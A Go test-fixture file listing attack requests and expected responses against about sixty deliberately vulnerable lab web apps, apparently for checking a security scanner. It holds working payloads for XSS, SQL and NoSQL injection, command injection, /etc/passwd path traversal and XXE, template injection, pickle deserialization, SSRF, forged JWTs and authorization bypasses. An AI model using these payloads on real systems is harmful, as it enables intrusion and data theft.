package web

import "strings"

// third are a third set of small sites, in lab/web/third, with functions and looks that neither the challenges nor the
// second set have. They, too, were written, and their labels proved, before their author saw the tester.
var third = []flow{
	// What a browser runs, behind filters.
	{"dictionary", "python", pairs, "", "-", "", []step{
		{"/sainmhiniu", "xss", "weak", "- GET /sainmhiniu?focal=%3Cscrscriptipt%3Ealert(7)%3C/scrscriptipt%3E => <script>alert\\(7\\)</script>"}}},
	{"lostfound", "python", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /report thing=%3Cdetails+open+ontoggle=alert(7)%3E&train=x ; - GET / => <details open ontoggle=alert"}}},
	{"apartments", "python", pairs, "", "-", "", []step{
		{"/mapa", "xss", "weak", `- GET /mapa?bairro=%5C';alert(7)// => centro = '\\\\';alert`}}},
	{"seismo", "python", pairs, "", "-", "", []step{
		{"/near", "xss", "weak", "- GET /near?place=--!%3E%3Cimg+src=x+onerror=alert(7)%3E => near/--!><img src=x onerror"}}},
	{"scoreboard", "python", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /insert-coin initials=%3Cimg+src=x+onerror=%26%2397;%26%23108;%26%23101;%26%23114;%26%23116;(7)%3E&points=1 ; - GET / => <IMG SRC=X ONERROR=&#97;&#108;&#101;&#114;&#116;\\(7\\)>"}}},
	{"allotment", "python", pairs, "", "-", "", []step{
		{"/wiki/**", "xss", "weak", "- POST /wiki/rota/edit source=[q](JavaScript:alert(7)) ; - GET /wiki/rota => href=\"JavaScript:alert"}}},
	{"podcast", "php", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /index.php episode=q7&website=javascript:alert(7)//http ; - GET / => href=\"javascript:alert\\(7\\)//http"}}},
	{"aquarium", "node", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- GET /?skin=x+onmouseover=alert(7)+ => class=x onmouseover=alert\\(7\\) >"}}},
	{"bookclub", "node", pairs, "", "-", "", []step{
		{"/hello", "xss", "weak", "- GET /hello?reader=$%7Balert(7)%7D => = `Good evening, \\$\\{alert\\(7\\)\\}`"}}},
	{"marathon", "node", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /thanks msg=%3Csvg/onload=alert(7)%3E ; - GET / => <svg/onload=alert\\(7\\)>"}}},
	{"haiku", "python", pairs, "", "-", "", []step{
		{"/find.json", "xss", "weak", "- GET /find.json?word=%3Csvg+onload=alert(7)%3E => ^200 text/html(?s).*<svg onload=alert"}}},
	{"motorforum", "php", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /index.php by=q&post=[img]/q7\"+onerror=\"alert(7)[/img] ; - GET / => src=\"/q7\" onerror=\"alert"}}},

	// Statements.
	{"atelier", "python", pairs, "", "-", "", []step{
		{"/", "sql", "weak", "- [Accept-Language: de'AND'1'='1] GET / => Willkommen"}}},
	{"freight", "python", pairs, "", "-", "", []step{
		{"/v3/offers", "sql", "weak", `- POST /v3/offers {"shipment":{"lane":"x","kilos":"0 OR 1=1"}} => staff parcels`}}},
	{"telescopes", "python", pairs, "", "-", "", []step{
		{"/catalogo", "sql", "weak", "- POST /catalogo ordina=mag*-1 => dist(?s).*<tr><td>Mira(.*)Deneb(.*)Vega(.*)Sirius"}}},
	{"vinyl", "python", pairs, "", "-", "", []step{
		{"/dig", "sql", "weak", "- GET /dig?needle=zzz'oorr'1'LIKE'1 => Nevermind"}}},
	{"birds", "python", pairs, "", "-", "", []step{
		{"/species/*", "sql", "weak", "- GET /species/0%20OR%20secret=1 => quarry 4"}}},

	// Commands, templates, files, documents, objects.
	{"registrar", "php", pairs, "", "-", "", []step{
		{"/**", "command", "weak", "- GET /?domain=a$(expr+1300+%2B+37) => domain a1337"}}},
	{"deeds", "php", pairs, "", "-", "", []step{
		{"/czytaj.php", "path", "weak", "- GET /czytaj.php?akt=%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd => root:x:0:0"}}},
	{"gpx", "php", pairs, "", "-", "", []step{
		{"/", "xxe", "weak", "- POST / track=%3C!DOCTYPE+a+[%3C!ENTITY+e+SYSTEM+%22file:///etc/passwd%22%3E]%3E%3Ca%3E%3Ctrk%3E%3Cname%3E%26e;%3C/name%3E%3C/trk%3E%3C/a%3E => root:x:0:0"}}},
	{"menucard", "php", pairs, "form / locale parola", "trattoria:Basilico.77 osteria:Rosmarino.12", "", []step{
		{"/**", "upload", "weak", "trattoria FILE / menu q7.pphphp application/pdf <?=7*191; ; - GET /files/q7.php => ^200(?s).*1337"}}},
	{"catalog", "php", pairs, "", "-", "", []step{
		{"/", "deserialization", "weak", `- GET /?view=O:6:%22Banner%22:1:%7Bs:6:%22source%22;s:11:%22/etc/passwd%22;%7D => root:x:0:0`}}},
	{"copyshop", "node", pairs, "", "-", "", []step{
		{"/queue/add", "command", "weak", `- POST /queue/add {"document":"x';sleep 2;'","copies":1} => slow`}}},
	{"orchestra", "node", pairs, "", "-", "", []step{
		{"/noty", "path", "weak", "- GET /noty?hlas=x/../../../../../../../../../etc/passwd => root:x:0:0"}}},
	{"lookbook", "node", pairs, "", "-", "", []step{
		{"/proxy", "ssrf", "weak", "- GET /proxy?src=http://img.lookbook.example@127.0.0.1:{port}/ => Autumn in wool"}}},
	{"careers", "node", pairs, "form /entrar candidato segredo", "r.silva:Cover-Letter-1 m.costa:Second-Page-2", "", []step{
		{"/**", "upload", "weak", "r.silva FILE /candidatura cv q7.html application/pdf <script>alert(7)</script> ; - GET /cv/q7.html => ^200 text/html(?s).*<script>alert"}}},
	{"gazette", "node", pairs, "", "-", "", []step{
		{"/leave", "redirect", "weak", "- GET /leave?for=https://gazette.example.q7.example/ => Location: https://gazette.example.q7"}}},
	{"diploma", "python", pairs, "", "-", "", []step{
		{"/print", "template", "weak", "- POST /print holder=q7&skill={%25print(7*191)%25} => mastered 1337"}}},
	{"familytree", "python", pairs, "", "-", "", []step{
		{"/person/*", "template", "weak", "- POST /person/2 known={{7*191}} ; - GET /person/2 => <p>1337</p>"}}},
	{"newsroom", "python", pairs, "", "-", "", []step{
		{"/onizleme", "template", "weak", "- GET /onizleme?baslik={{7|add:1330}}&yazar=q7 => <h2>1337</h2>"}}},
	{"nautical", "python", pairs, "", "-", "", []step{
		{"/charts/sheet", "path", "weak", `- POST /charts/sheet {"sheet":"....//....//....//....//....//....//....//....//....//....//....//....//etc/passwd"} => root:x:0:0`}}},
	{"feedreader", "python", pairs, "", "-", "", []step{
		{"/lesen", "ssrf", "weak", "- POST /lesen adresse=http://127.0.0.1:{port}/betrieb/status => Siegellack"}}},
	{"chess", "python", pairs, "", "-", "", []step{
		{"/resume", "deserialization", "weak", "- FILE /resume game q7.sav application/octet-stream ctime\nsleep\n(I2\ntR. => slow"}}},

	// Of others, and of those with more rights.
	{"courier", "php", pairs, "form /?do=signon konto haslo", "firma-kolibri:Paczka!2024 atelier-ewa:Szpulka-61", "", []step{
		{"/", "bola", "weak", "firma-kolibri GET /?do=label&ref=34303732 => Lipowa 9"}}},
	{"insurer", "node", pairs, "form /anmelden kennung passwort", "k.brandt:Haftpflicht/9 j.vogt:Teilkasko/5", "", []step{
		{"/schreiben/*/druck", "bola", "weak", "k.brandt GET /schreiben/20320/druck => Berufsunf"}}},
	{"landlord", "node", pairs, "cookie-json /open tenant pass", "tenant.ito:Genkan-303 tenant.ruiz:Balcon-404", "", []step{
		{"/gql", "bola", "weak", `tenant.ito POST /gql {"query":"{lease(id:\"TGVhc2U6NQ==\"){deposit}}"} => LU77`}}},
	{"counsel", "node", pairs, "json /api/start nick phrase", "ada.q:Quiet-Room-1 ben.z:Quiet-Room-2", "", []step{
		{"/api/conversations/open", "bola", "weak", `ada.q POST /api/conversations/open {"conversation":612} => drinks`}}},
	{"council", "python", pairs, "form /signin resident passkey", "resident.wu:Bin-day-1 resident.ek:Bin-day-2", "", []step{
		{"/svc/officers/electors", "bfla", "weak", "resident.wu GET /svc/officers/electors => 1980-02-11"}}},
	{"cinema", "python", pairs, "form /foyer guest pass", "ticket.joy:Matinee-11 ticket.sol:Matinee-22", "", []step{
		{"/projection", "bfla", "weak", "ticket.joy [Cookie: role=admin] GET /projection => Key of the vault"}}},
	{"census", "python", pairs, "form /on clerk word", "clerk.a:Ledger/One clerk.b:Ledger/Two", "", []step{
		{"/supervisor/rolls", "bfla", "weak", "clerk.a PUT /supervisor/rolls => on parole"}}},
	{"canteen", "python", pairs, "form /hello/ parent pass", "mum.lind:Packed+Lunch1 dad.roy:Packed+Lunch2", "", []step{
		{"/card/", "bola", "weak", "-a GET /hello/ ; -a POST /hello/ parent=mum.lind&pass=Packed%2BLunch1&csrfmiddlewaretoken={hidden:csrfmiddlewaretoken} ; -a GET /family/ ; -a POST /card/ kid=4102&csrfmiddlewaretoken={hidden:csrfmiddlewaretoken} => epilepsy"}}},
	{"wind", "python", pairs, "", "-", "", []step{
		{"/control", "bfla", "weak", "- [X-Forwarded-For: 127.0.0.1] GET /control => 5521-X"}}},
	{"rota", "node", pairs, "", "-", "", []step{
		{"/api/volunteers", "mass", "weak", `-a POST /api/volunteers {"email":"q7@q.example","secret":"q7x","name":"q","organiser":true} ; -a POST /api/session {"email":"q7@q.example","secret":"q7x"} ; -a GET /api/contacts => 555-0173`}}},
	{"skipass", "node", pairs, "cookie-json /session client mdp", "lou.m:Powder.day1 vic.t:Chair.lift2", "", []step{
		{"/panier/lignes", "logic", "weak", `lou.m POST /panier/lignes {"article":"week","pieces":-1} ; lou.m GET /panier => "total":-340`}}},
	{"bikes", "node", pairs, "cookie-json /app/unlock rider lock", "rider.pia:Spoke-31 rider.tom:Spoke-32", "", []step{
		{"/app/bonus", "logic", "weak", `rider.pia POST /app/bonus {"code":"SPRING4"} ; rider.pia POST /app/bonus {"code":"SPRING4"} ; rider.pia GET /app/credit => "credit":18`}}},
	{"ferry", "node", pairs, "", "-", "", []step{
		{"/rezervacija", "logic", "weak", "- POST /rezervacija linija=2&cijena=1&ime=q7 => platiti: 1 EUR"}}},

	// Passwords, tokens, and what was left behind.
	{"broker", "python", pairs, "", "-", "", []step{
		{"/**", "default", "weak", `-a POST /api/session {"username":"guest","password":"guest"} ; -a GET / => invoices.out`}}},
	{"alumni", "python", pairs, "form /kirjaudu tunnus salasana", "aino.laine:Tuomi-1998 eero.koski:Pihlaja-2001", "", []step{
		{"/kirjaudu", "enumeration", "weak", "- POST /kirjaudu tunnus=q7&salasana=q7 => ei ole olemassa"}}},
	{"crew", "python", pairs, "form /aboard handle knot", "tess:Halyard-10 jon:Bowline-20", "", []step{
		{"/api/recover", "host", "weak", `- [Host: q7.example] POST /api/recover {"handle":"tess"} ; tess GET /letters => http://q7\.example`}}},
	{"handball", "python", pairs, "form /omklaedning spiller kode", "wing7:Left-hand-7 pivot4:Six-metres-4", "", []step{
		{"/**", "predictable", "weak", "- [Cookie: team=f931b13aead002d7fcdb02f84e0f794f] GET /taktik => Opstilling"}}},
	{"drone", "python", pairs, "json /v1/token callsign secret", "pilot.ana:Rotor-speed-1 pilot.leo:Rotor-speed-2", "", []step{
		{"/**", "jwt", "weak", "- [Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJxNyIsInJvbGUiOiJjb250cm9sbGVyIiwiZXhwIjo0MTAyNDQ0ODAwfQ.d2hhdGV2ZXI] GET /v1/control/airspace => sector 9"}}},
	{"locker", "python", pairs, "", "-", "", []step{
		{"/oeffnen", "limit", "weak", strings.Repeat("- POST /oeffnen pin=0000 ; ", 12) + "- POST /oeffnen pin=4821 => ist offen"}}},
	{"raffle", "php", pairs, "", "-", "", []step{
		{"/**", "tamper", "weak", "- POST /index.php prize=bicycle&seal=9e8e37aeb4449d579e9a58ce02e9f2fd&claim=1 => Please collect: bicycle"}}},
	{"archery", "php", pairs, "", "-", "", []step{
		{"/", "juggling", "weak", "- POST / word=QNKCDZO => Gate: 7-7-3"}}},
	{"apiary", "node", pairs, "form /kupa/in mail word", "ina@hive.example:Linden-Honey-3 sten@hive.example:Heather-Honey-4", "", []step{
		{"/kupa/in", "nosql", "weak", "- POST /kupa/in mail[$ne]=q7&word[$ne]=q7 => ^302"}}},
	{"dome", "node", pairs, "form /inn navn kode", "guest.kari:Polaris+1 guest.olav:Capella+2", "", []step{
		{"/**", "jwt", "weak", "- [Cookie: dome=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJuYW1lIjoicTciLCJyYW5rIjoiZGlyZWN0b3IifQ.bR-a-P9fkmnSUtXfbtu1uesyDXgMR51GazRrezzEB4Q] GET /styring => 88-14"}}},
	{"cabinet", "php", pairs, "", "-", "", []step{
		{"/**", "default", "weak", "- POST /index.php operator=admin&passcode=password => BOILER 71"}}},
	{"florist", "php", pairs, "", "-", "", []step{
		{"/config.php~", "exposure", "weak", "- GET /config.php~ => Clavel-Rojo"},
		{"/backup.sql", "exposure", "weak", "- GET /backup.sql => INSERT INTO"}}},
	{"brewery", "node", pairs, "", "-", "", []step{
		{"/actuator/env", "exposure", "weak", "- GET /actuator/env => Hop-en-Mout"}}},
}
